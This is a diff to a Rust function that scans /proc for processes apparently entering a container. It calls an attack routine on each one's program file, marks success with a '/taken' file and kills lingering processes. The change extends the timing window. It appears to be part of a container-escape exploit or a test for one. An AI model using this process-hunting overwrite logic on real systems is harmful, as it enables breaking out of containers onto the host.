@@ -89,13 +89,14 @@ fn overwrite(argument: &str) {
     let (size, host) = argument.split_once(' ').expect("a size and a path");
     let size: u64 = size.parse().expect("a size");
     let own = std::process::id().to_string();
-    let begin = Instant::now();
+    // For its prey it waits longer: that may take its time to come.
+    let mut end = Instant::now() + Duration::from_secs(20);
     let mut took = Vec::new();
     // One that stays isn't on its way into the container, but its program.
     const STAYS: Duration = Duration::from_millis(200);
     let mut seen = std::collections::BTreeMap::new();
     let mut answers = std::collections::BTreeSet::new();
-    while begin.elapsed() < Duration::from_secs(3) {
+    while Instant::now() < end {
         for entry in fs::read_dir("/proc").expect("/proc").flatten() {
             let pid = entry.file_name().to_string_lossy().into_owned();
             if pid == own || !pid.bytes().all(|b| b.is_ascii_digit()) {
@@ -129,8 +130,11 @@ fn overwrite(argument: &str) {
                 continue;
             }
             attack(&path, &file, &mut answers);
+            if took.is_empty() {
+                let _ = File::create("/taken");
+                end = Instant::now() + Duration::from_secs(3);
+            }
             took.push(file);
-            let _ = File::create("/taken");
             if *seen.entry(pid.clone()).or_insert_with(Instant::now) < Instant::now() - STAYS {
                 // SAFETY: no memory is involved.
                 unsafe { libc::kill(pid.parse().expect("a number"), libc::SIGKILL) };
